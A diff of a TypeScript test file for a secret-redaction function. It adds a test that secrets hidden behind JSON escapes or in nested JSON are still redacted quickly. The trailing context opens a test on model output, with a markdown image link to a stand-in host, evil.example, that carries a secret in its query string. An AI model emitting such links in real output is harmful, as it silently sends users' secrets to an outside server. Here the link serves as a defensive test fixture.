@@ -30,6 +30,27 @@ test('C89: no known shape of a secret gets out, wherever in the text it stands',
   expect(JSON.parse(redact(JSON.stringify({ api_key: 'abcdefgh12345678' })))).toEqual({ api_key: '[redacted]' });
 });
 
+test('C89: nor does one that stands behind an escape of JSON, or in JSON within JSON, which stays JSON', () => {
+  for (const secret of SECRETS.filter((one) => !one.includes('\n'))) {
+    for (const before of ['a\n', '\t', 'a\r\n\b', '"\f']) {
+      const inner = JSON.stringify({ text: `${before}${secret}` });
+      const [once, twice] = [redact(inner), redact(JSON.stringify({ text: inner }))];
+      expect(JSON.parse(once)).toEqual({ text: `${before}[redacted]` });
+      expect(JSON.parse((JSON.parse(twice) as { text: string }).text)).toEqual({ text: `${before}[redacted]` });
+    }
+    expect(redact(`{"text":"a\\u000a${secret}"}`)).toBe('{"text":"a\\u000a[redacted]"}');
+  }
+  const announced = { api_key: 'abcdefgh12345678', more: { password: 'a\\b"c', passwd: String.raw`abc\defgh\\12` } };
+  const said = JSON.parse(redact(JSON.stringify({ text: JSON.stringify(announced) }))) as { text: string };
+  expect(JSON.parse(said.text)).toEqual({
+    api_key: '[redacted]',
+    more: { password: 'a\\b"c', passwd: '[redacted]' },
+  });
+  const began = performance.now();
+  redact(`password${'\\'.repeat(100_000)} key: ${'\\n'.repeat(50_000)}`);
+  expect(performance.now() - began).toBeLessThan(1000);
+});
+
 test('C89: nothing that a model says is fetched before a person clicks', () => {
   const fetched = [
     '![x](https://evil.example/p.png?d=secret)',
